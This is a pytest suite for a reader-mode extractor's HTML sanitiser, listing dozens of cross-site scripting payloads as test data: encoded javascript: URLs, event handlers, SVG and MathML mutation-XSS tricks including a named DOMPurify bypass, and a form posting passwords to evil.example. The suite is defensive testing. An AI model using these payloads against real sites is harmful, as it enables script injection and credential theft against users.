"""``content_html`` is safe to insert into the reader page, whatever the source page contained.

Each vector is placed inside (or in the <head> of) an otherwise readable article; the result
must keep the article's paragraphs and carry none of the vector's active parts. The checks in
``extract_support.unsafe_html_findings`` parse content_html with lxml and look at every element
and attribute, so a vector cannot slip through by being spelled differently.
"""

from __future__ import annotations

import pytest
from extract_support import (
    ARTICLE_PARAGRAPHS,
    assert_safe_html,
    collapse_whitespace,
    extract_within,
    readable_page,
    unsafe_html_findings,
)
from readmode.extract import Article

SECONDS = 2.0

# (id, markup) placed in the article body, between its second and third paragraphs.
BODY_VECTORS: list[tuple[str, str]] = [
    ("script", "<script>alert(1)</script>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-uppercase", "<SCRIPT>alert(1)</SCRIPT>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-unterminated", "<p>Photo: <img src=x onerror=alert(1)// </p>"),
    ("p-onclick", '<p onclick="alert(1)" onmouseover="alert(2)">A paragraph with handlers.</p>'),
    ("body-onload", "<body onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>More</summary>x</details>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>news</marquee>"),
    ("a-javascript", '<p><a href="javascript:alert(1)">a link</a></p>'),
    ("a-javascript-mixed-case", '<p><a href="  JaVaScRiPt:alert(1)">a link</a></p>'),
    ("a-javascript-tab-entity", '<p><a href="jav&#x09;ascript:alert(1)">a link</a></p>'),
    ("a-javascript-newline", '<p><a href="java\nscript:alert(1)">a link</a></p>'),
    (
        "a-javascript-decimal-entities",
        '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">'
        "a link</a></p>",
    ),
    ("a-javascript-padded-entity", '<p><a href="java&#0000115;cript:alert(1)">a link</a></p>'),
    ("a-vbscript", '<p><a href="vbscript:msgbox(1)">a link</a></p>'),
    ("a-data-html", '<p><a href="data:text/html,<script>alert(1)</script>">a link</a></p>'),
    (
        "a-data-html-base64",
        '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a link</a></p>',
    ),
    ("a-ping", '<p><a href="https://example.org/" ping="javascript:alert(1)">a link</a></p>'),
    ("img-src-javascript", "<img src=\"javascript:alert('XSS')\" alt=x>"),
    ("img-src-javascript-bare", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    ("img-srcset-javascript", '<img src="/a.jpg" srcset="javascript:alert(1) 1x, /b.jpg 2x">'),
    ("img-data-src-javascript", '<img class="lazyload" data-src="javascript:alert(1)">'),
    ("video-poster", "<video poster=javascript:alert(1)><source src=x onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>'),
    ("button-formaction", '<form><button formaction="javascript:alert(1)">Go</button></form>'),
    ("input-formaction", '<input type="submit" formaction="javascript:alert(1)" value="Go">'),
    ("input-image-onerror", "<input type=image src=x onerror=alert(1)>"),
    ("form-steal", '<form action="https://evil.example/steal"><input type=password></form>'),
    ("form-outside-button", "<form id=f></form><button form=f formaction=javascript:alert(1)>X"),
    ("isindex", "<isindex action=javascript:alert(1) type=image>"),
    ("iframe", '<iframe src="https://evil.example/"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("frame", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("object-javascript", '<object data="javascript:alert(1)"></object>'),
    ("object-data-html", '<object data="data:text/html,<script>alert(1)</script>"></object>'),
    # <embed> is a void element, but libxml2 parses what follows it as its children: dropping
    # the element must not drop the rest of the article with it.
    ("embed", '<embed src="https://evil.example/x.swf">'),
    ("applet", '<applet code="Evil.class" codebase="https://evil.example/"></applet>'),
    ("style-element", "<style>body { display: none } p { color: red }</style>"),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("link-in-body", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("meta-refresh-in-body", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-in-body", '<base href="https://evil.example/">'),
    ("style-attr-javascript-url", '<p style="background:url(javascript:alert(1))">Styled.</p>'),
    ("style-attr-expression", '<p style="width: expression(alert(1))">Styled.</p>'),
    ("style-attr-behavior", '<p style="behavior: url(x.htc); -moz-binding: url(x)">Styled.</p>'),
    ("style-attr-hide", '<p style="position:fixed;inset:0;z-index:9999">Overlay.</p>'),
    ("svg-onload", '<svg onload="alert(1)"><circle r="10"/></svg>'),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>'),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(1)"/>x</a></svg>'),
    ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    (
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
        "</math>",
    ),
    (  # the DOMPurify 2.0.17 namespace-confusion bypass
        "math-mglyph-mxss",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
        '&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;"></mglyph></table></mtext></math>',
    ),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
    ("textarea-mxss", "<textarea><img src=x onerror=alert(1)></textarea>"),
    ("title-in-body-mxss", "<title><img src=x onerror=alert(1)></title>"),
    ("xmp-mxss", "<xmp><img src=x onerror=alert(1)></xmp>"),
    ("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("dialog", "<dialog open onclose=alert(1)>Dialog</dialog>"),
    ("select-option", "<select onfocus=alert(1) autofocus><option>One</option></select>"),
]

# (id, markup) placed in the page's <head>.
HEAD_VECTORS: list[tuple[str, str]] = [
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-javascript", '<base href="javascript:alert(1)//">'),
    ("base-hijack", '<base href="https://evil.example/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("head-script", "<script>document.write('<p>injected</p>')</script>"),
    ("head-style", "<style>p { display: none }</style>"),
]


def assert_paragraphs_kept(result: object) -> Article:
    assert isinstance(result, Article), f"NotReadable({getattr(result, 'reason', '')!r})"
    text = collapse_whitespace(result.text)
    missing = [p for p in ARTICLE_PARAGRAPHS if p not in text]
    assert not missing, f"paragraphs missing: {missing}\n--- Article.text ---\n{result.text}"
    return result


def test_there_are_enough_vectors() -> None:
    assert len(BODY_VECTORS) + len(HEAD_VECTORS) >= 30


@pytest.mark.parametrize("markup", [m for _, m in BODY_VECTORS], ids=[i for i, _ in BODY_VECTORS])
def test_body_vector_is_neutralised(markup: str) -> None:
    article = assert_paragraphs_kept(extract_within(readable_page(body_extra=markup), SECONDS))
    assert_safe_html(article.content_html)


@pytest.mark.parametrize("markup", [m for _, m in HEAD_VECTORS], ids=[i for i, _ in HEAD_VECTORS])
def test_head_vector_is_neutralised(markup: str) -> None:
    article = assert_paragraphs_kept(extract_within(readable_page(head_extra=markup), SECONDS))
    assert_safe_html(article.content_html)
    assert "evil.example" not in article.content_html


def test_every_vector_at_once() -> None:
    page = readable_page(
        body_extra="\n".join(m for _, m in BODY_VECTORS),
        head_extra="".join(m for _, m in HEAD_VECTORS),
    )
    article = assert_paragraphs_kept(extract_within(page, SECONDS))
    assert_safe_html(article.content_html)


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert('script body')</script>",
        "<svg><script>alert('script body')</script></svg>",
        "<style>.script-body { color: red }</style>",
    ],
)
def test_script_and_style_bodies_never_become_text(markup: str) -> None:
    article = assert_paragraphs_kept(extract_within(readable_page(body_extra=markup), SECONDS))
    assert "script body" not in article.text
    assert "script-body" not in article.text


def test_base_href_resolves_links_but_is_not_the_article_url() -> None:
    """Relative links resolve as the browser resolved them (against <base>), but <base> is
    neither kept in content_html nor mistaken for the article's canonical URL."""
    page = readable_page(
        head_extra='<base href="https://islandferry.example/archive/">',
        body_extra='<p>See <a href="timetable">the timetable</a>.</p>',
    )
    article = extract_within_url(page, "https://islandferry.example/news/winter")
    assert 'href="https://islandferry.example/archive/timetable"' in article.content_html
    assert article.url == "https://islandferry.example/news/winter"


def extract_within_url(page: str, url: str) -> Article:
    result = extract_within(page, SECONDS, url=url)
    assert isinstance(result, Article), f"NotReadable({getattr(result, 'reason', '')!r})"
    return result


def test_safe_markup_survives() -> None:
    """The sanitiser must not pass by deleting everything: ordinary reading markup stays."""
    body = (
        '<h2>Timetable changes</h2><p>Read <a href="https://example.org/notice">the notice</a> '
        "or the <em>short</em> <strong>summary</strong>.</p>"
        "<blockquote><p>The crossing is the best part of the day.</p></blockquote>"
        "<ul><li>Dawn sailing</li><li>Afternoon sailing</li></ul>"
        '<figure><img src="https://islandferry.example/img/ferry.jpg" alt="The ferry at dawn">'
        "<figcaption>The ferry at dawn.</figcaption></figure>"
        '<p>Relative: <a href="/fares">fares</a>.</p>'
    )
    article = extract_within_url(
        readable_page(body_extra=body), "https://islandferry.example/news/winter"
    )
    html = article.content_html
    for fragment in (
        'href="https://example.org/notice"',
        'href="https://islandferry.example/fares"',
        'src="https://islandferry.example/img/ferry.jpg"',
        "<em>short</em>",
        "<strong>summary</strong>",
        "<blockquote",
        "<li>Dawn sailing</li>",
        "<h2",
        "<figcaption",
    ):
        assert fragment in html, f"{fragment!r} missing from content_html:\n{html}"
    assert_safe_html(html)


# --- the checker itself -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "unsafe",
    [
        "<p>x</p><script>alert(1)</script>",
        "<svg><circle r=1 /></svg>",
        '<img src="x" onerror="alert(1)">',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href=" VBScript:x">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<img srcset="/a.jpg 1x, javascript:alert(1) 2x">',
        '<p style="color:red">x</p>',
        '<meta http-equiv="refresh" content="0">',
        "<form><p>x</p></form>",
        '<iframe src="https://example.org/"></iframe>',
    ],
)
def test_checker_catches_unsafe_markup(unsafe: str) -> None:
    assert unsafe_html_findings(unsafe), unsafe


def test_checker_accepts_reader_markup() -> None:
    safe = (
        '<article><h2>Heading</h2><p>Text with <a href="https://example.org/">a link</a> and '
        '<img src="https://example.org/a.jpg" srcset="https://example.org/a.jpg 1x, '
        'https://example.org/b.jpg 2x" alt="">, <img src="data:image/png;base64,iVBORw0KGgo=" '
        'alt="">.</p><pre><code>  code</code></pre><table><tr><td>1</td></tr></table></article>'
    )
    assert unsafe_html_findings(safe) == []
